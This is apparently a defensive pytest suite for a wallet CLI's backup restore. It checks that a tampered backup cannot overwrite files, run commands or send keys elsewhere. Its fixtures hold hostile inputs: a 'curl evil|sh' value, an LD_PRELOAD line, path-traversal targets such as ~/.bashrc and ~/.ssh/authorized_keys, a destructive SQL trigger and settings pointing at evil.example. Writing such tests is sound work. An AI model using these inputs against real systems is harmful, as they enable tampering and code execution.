"""A backup that somebody else made: it may say anything, and writes, runs and sends nothing that was not agreed to."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
import tarfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import write_key
from tests.kit.driver import Amani, Result
from tests.kit.journals import add_wallet, writing

pytestmark = pytest.mark.sqlite  # a ledger on a server is restored there

PASSPHRASE = "correct horse battery staple"
OWN = "0011223344556677" * 2
KEY = "fedcba9876543210" * 2


@pytest.fixture(autouse=True)
def _no_scrypt(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever knows the passphrase makes what they like; to try each costs seconds, and adds nothing here."""
    monkeypatch.setattr("amani_cli.operations.backup_file.encrypted", lambda content, _: content)
    monkeypatch.setattr("amani_cli.operations.backup_file._decrypted", lambda _path, content, _: content)


@pytest.fixture
def opened(tmp_path: Path, amani: Amani) -> tuple[str, Path]:
    amani.secrets.add(PASSPHRASE)
    return "--passphrase-file", write_key(tmp_path / "passphrase", PASSPHRASE)


@pytest.fixture
def backup(amani: Amani, home: Path, tmp_path: Path, opened: tuple[str, Path]) -> Path:
    """One with a wallet's key and a pepper in it; the machine is another one now, and empty."""
    key_file = write_key(tmp_path / "main.key", OWN)
    amani.secrets.add(OWN)
    with writing(home) as (_, db):
        add_wallet(db, "main", key_source=f"file:{key_file}")
    assert amani("pin", "set", "--pin-stdin", stdin="8317").code == 0
    assert amani("backup", "create", tmp_path / "b", "--with-keys", *opened).code == 0
    key_file.unlink()
    shutil.rmtree(f"{key_file}.amani")
    os.environ["AMANI_HOME"] = str(tmp_path / "machine")
    return tmp_path / "b"


def parts(file: Path) -> dict[str, bytes]:
    with tarfile.open(file) as archive:
        return {entry.name: archive.extractfile(entry).read() for entry in archive}  # type: ignore[union-attr]


def packed(file: Path, found: dict[str, bytes]) -> Path:
    with tarfile.open(file, mode="w:gz") as archive:
        for name, content in found.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return file


def remade(file: Path, change: Callable[[dict[str, Any], list[dict[str, str]], Path], None]) -> Path:
    """The backup, its manifest, secrets and database changed, with sums that are right."""
    found = parts(file)
    manifest, secrets = json.loads(found["manifest.json"]), json.loads(found["keys.json"])
    database = file.with_name("evil.db")
    database.write_bytes(found["amani.db"])
    manifest["sha256"] = {}
    change(manifest, secrets, database)
    found |= {"keys.json": json.dumps(secrets).encode(), "amani.db": database.read_bytes()}
    sums = {name: hashlib.sha256(content).hexdigest() for name, content in found.items() if name != "manifest.json"}
    if manifest.get("sha256") == {}:
        manifest["sha256"] = sums
    found["manifest.json"] = json.dumps(manifest).encode()
    return packed(file, found)


def sql(database: Path, statement: str, *values: object) -> None:
    with closing(sqlite3.connect(database)) as db, db:
        db.execute(statement, values)


def void(_: object) -> None:
    """What a change gives back is of no interest."""


def home_of_user() -> Path:
    return Path(os.environ["HOME"])


SECRETS: dict[str, tuple[str, str, str]] = {
    "a shell's file": ("file", "{home}/.bashrc", KEY),
    "keys that let in": ("file", "{home}/.ssh/authorized_keys", KEY),
    "not a key": ("file", "{home}/x.key", "curl evil|sh"),
    "a line of settings": ("file", "{home}/x.key", "LD_PRELOAD=/tmp/evil.so"),
    "up and away": ("file", "{home}/keys/../../x.key", KEY),
    "a relative path": ("file", "x.key", KEY),
    "a folder of somebody's": ("folder:{home}", "pepper:0123", KEY),
    "a name that is a path": ("folder:{home}/x.amani", "../.bashrc", KEY),
    "a name that leads out": ("folder:{home}/x.amani", "pepper:/../../../.bashrc", KEY),
    "a name of a file": ("folder:{home}/x.amani", ".bashrc", KEY),
    "no place": ("command", "x", KEY),
    "several lines": ("folder:{home}/x.amani", "pepper:0123", f"{KEY}\nmore"),
}


@pytest.mark.parametrize("kind", SECRETS)
def test_it_writes_only_keys_and_only_where_amani_keeps_them(
    amani: Amani, backup: Path, opened: tuple[str, Path], kind: str
) -> None:
    place, name, value = (each.format(home=home_of_user()) for each in SECRETS[kind])
    remade(backup, lambda _m, secrets, _d: secrets.append({"place": place, "name": name, "value": value}))
    before = sorted(home_of_user().rglob("*"))
    for option in ((), ("--key-folder", home_of_user() / "keys")):
        run = amani("backup", "restore", backup, *opened, *option, "--yes", "--json")
        assert (run.code, run.error["code"]) == (2, "BAD_BACKUP"), run
        assert sorted(home_of_user().rglob("*")) == before
        assert not (Path(os.environ["AMANI_HOME"]) / "amani.db").exists()


PLACES = {
    "a pepper": "UPDATE pin SET place='folder:{home}', pepper='pepper:1'",
    "a pepper's name": "UPDATE pin SET pepper='.bashrc'",
    "a trigger": "CREATE TRIGGER t AFTER INSERT ON payment BEGIN DELETE FROM budget; END",
    "a view": "CREATE VIEW v AS SELECT * FROM payment",
    "a table": "CREATE TABLE v (x)",
    "a lost table": "DROP TABLE budget",
    "a key beside others'": "UPDATE wallet SET key_source='file:{home}/.ssh/id'",
}


@pytest.mark.parametrize("kind", PLACES)
def test_its_database_names_no_place_of_others_and_holds_nothing_but_amani_s(
    amani: Amani, backup: Path, opened: tuple[str, Path], kind: str
) -> None:
    """A pepper's file is written and removed later on; a trigger would act in every payment."""
    remade(backup, lambda _m, _s, database: sql(database, PLACES[kind].format(home=home_of_user())))
    run = amani("backup", "restore", backup, *opened, "--yes", "--json")
    assert (run.code, run.error["code"]) in ((2, "BAD_BACKUP"), (2, "BAD_DATABASE")), run
    assert not (Path(os.environ["AMANI_HOME"]) / "amani.db").exists()


@pytest.mark.parametrize("table", ["hold", "mark"])
def test_what_it_says_of_holds_does_not_count(amani: Amani, backup: Path, opened: tuple[str, Path], table: str) -> None:
    """Each wallet that it knows is held, though whoever made it took that out; an older amani's mark was for all."""

    def freed(_m: object, _s: object, database: Path) -> None:
        sql(database, "DELETE FROM hold")
        if table == "mark":
            sql(database, "INSERT INTO mark VALUES ('spending held', 'a copy', '2026-11-01')")

    remade(backup, freed)
    assert amani("backup", "restore", backup, *opened, "--yes").code == 0
    assert "\namani_spending_held 1\n" in amani("metrics").stdout


def test_a_key_file_elsewhere_is_named_in_the_question(
    amani: Amani, backup: Path, opened: tuple[str, Path], tmp_path: Path
) -> None:
    key_file = tmp_path / "main.key"
    refused = amani("backup", "restore", backup, *opened, "--json")
    assert (refused.code, refused.error["code"]) == (5, "NOT_CONFIRMED")
    no = amani("backup", "restore", backup, *opened, stdin="n\n", tty=True)
    assert no.code == 5
    assert str(key_file) in no.stderr
    assert "Restore it? [y/N] " in no.stderr
    assert not key_file.exists()
    assert not (Path(os.environ["AMANI_HOME"]) / "amani.db").exists()
    done = amani("backup", "restore", backup, *opened, "--yes")
    assert f"It writes a key into {key_file}" in done.stderr
    assert key_file.read_text() == f"{OWN}\n"
    assert key_file.stat().st_mode & 0o777 == 0o600


def test_what_is_there_is_not_overwritten(amani: Amani, backup: Path, opened: tuple[str, Path], tmp_path: Path) -> None:
    key_file = write_key(tmp_path / "main.key", KEY)
    for place in ("itself", "a link"):
        if place == "a link":
            key_file.rename(tmp_path / "kept")
            key_file.symlink_to(tmp_path / "kept")
        run = amani("backup", "restore", backup, *opened, "--yes", "--json")
        assert run.error["code"] in ("FILE_EXISTS", "KEY_FILE"), run
        assert key_file.read_text() == f"{KEY}\n"
        assert not (Path(os.environ["AMANI_HOME"]) / "amani.db").exists()


def test_settings_that_are_there_are_asked_about_and_kept(
    amani: Amani, backup: Path, opened: tuple[str, Path], tmp_path: Path
) -> None:
    home = Path(os.environ["AMANI_HOME"])
    assert amani("config", "set", "timeout", "9s").code == 0
    packed(backup, parts(backup) | {"config.toml": b"timeout = '21s'"})
    assert amani("backup", "restore", backup, *opened).code == 5
    assert amani("config", "explain", "timeout", "-q").stdout == "timeout=9s\n"
    done = amani("backup", "restore", backup, *opened, "--yes")
    assert done.code == 0, done
    assert "replaces" in done.stderr
    assert amani("config", "explain", "timeout", "-q").stdout == "timeout=21s\n"
    (aside,) = home.glob("config.toml.before-restore-*")
    assert b"9s" in aside.read_bytes()
    assert aside.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize(
    "setting",
    [
        "store_password_command = 'touch {mark}'",
        "store = 'postgresql://u@evil.example/x?sslmode=verify-full'",
        "base_url = 'https://evil.example'",
        "default_url = 'https://evil.example'",
    ],
)
def test_settings_that_run_or_lead_somewhere_are_told(
    amani: Amani, backup: Path, opened: tuple[str, Path], tmp_path: Path, setting: str
) -> None:
    """On an empty machine too: a command in them would be run by whatever asks the ledger next."""
    setting = setting.format(mark=tmp_path / "ran")
    packed(backup, parts(backup) | {"config.toml": setting.encode()})
    refused = amani("backup", "restore", backup, *opened, "--key-folder", tmp_path / "k")
    assert refused.code == 5
    assert not (Path(os.environ["AMANI_HOME"]) / "config.toml").exists()
    done = amani("backup", "restore", backup, *opened, "--key-folder", tmp_path / "k", "--yes")
    assert done.code == 0, done
    assert setting.split("'")[1] in done.stderr
    assert not (tmp_path / "ran").exists()


def test_its_commands_are_told_and_not_run(
    amani: Amani, backup: Path, opened: tuple[str, Path], tmp_path: Path
) -> None:
    mark = tmp_path / "ran"
    remade(backup, lambda _m, _s, database: sql(database, "UPDATE wallet SET key_source=?", f"command:touch {mark}"))
    refused = amani("backup", "restore", backup, *opened, "--key-folder", tmp_path / "k")
    assert refused.code == 5
    done = amani("backup", "restore", backup, *opened, "--key-folder", tmp_path / "k", "--yes")
    assert done.code == 0, done
    assert f"by running: touch {mark}" in done.stderr
    assert not mark.exists()


def test_a_key_of_this_machine_is_not_sent_elsewhere_unasked(
    amani: Amani, backup: Path, opened: tuple[str, Path], tmp_path: Path
) -> None:
    mine = write_key(tmp_path / "mine.key", KEY)

    def theirs(_m: object, _s: object, database: Path) -> None:
        sql(database, "UPDATE wallet SET url='https://evil.example', key_source=?", f"file:{mine}")

    remade(backup, theirs)
    assert amani("backup", "restore", backup, *opened, "--key-folder", tmp_path / "k").code == 5
    no = amani("backup", "restore", backup, *opened, "--key-folder", tmp_path / "k", stdin="n\n", tty=True)
    assert no.code == 5
    assert f"sends https://evil.example the key in file {mine}" in no.stderr


@pytest.mark.parametrize(
    "change",
    [
        lambda manifest: manifest.clear(),
        lambda manifest: manifest.pop("made_at"),
        lambda manifest: manifest.update(wallets=5),
        lambda manifest: manifest.update(wallets=[5]),
        lambda manifest: manifest.update(sha256=[]),
        lambda manifest: manifest.update(sha256={"x": ""}),
        lambda manifest: manifest.update(schema="9"),
        lambda manifest: manifest.update(made_at=["\x1b[31m"]),
    ],
)
def test_a_manifest_that_makes_no_sense(
    amani: Amani, backup: Path, opened: tuple[str, Path], change: Callable[[dict[str, Any]], object]
) -> None:
    remade(backup, lambda manifest, _s, _d: void(change(manifest)))
    for command in ("verify", "restore"):
        run: Result = amani("backup", command, backup, *opened, "--json")
        assert (run.code, run.error["code"]) == (2, "BAD_BACKUP"), run


def test_what_a_killed_one_leaves_goes_with_the_next(
    amani: Amani, backup: Path, opened: tuple[str, Path], tmp_path: Path
) -> None:
    home = Path(os.environ["AMANI_HOME"])
    # Once its folder is made.
    die = "import os; from amani_cli.operations import backup; backup._opened = lambda *_: os._exit(9)"
    words = ["backup", "verify", str(backup), *map(str, opened)]
    code = f"{die}; from amani_cli import cli; cli.run({words!r})"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 9
    (left,) = home.glob(".backup-*")
    assert any(str(left) in item["check"] for item in amani("doctor", "--json").json["data"]["items"])
    assert amani("backup", "verify", backup, *opened).code == 0
    assert not list(home.glob(".backup-*"))
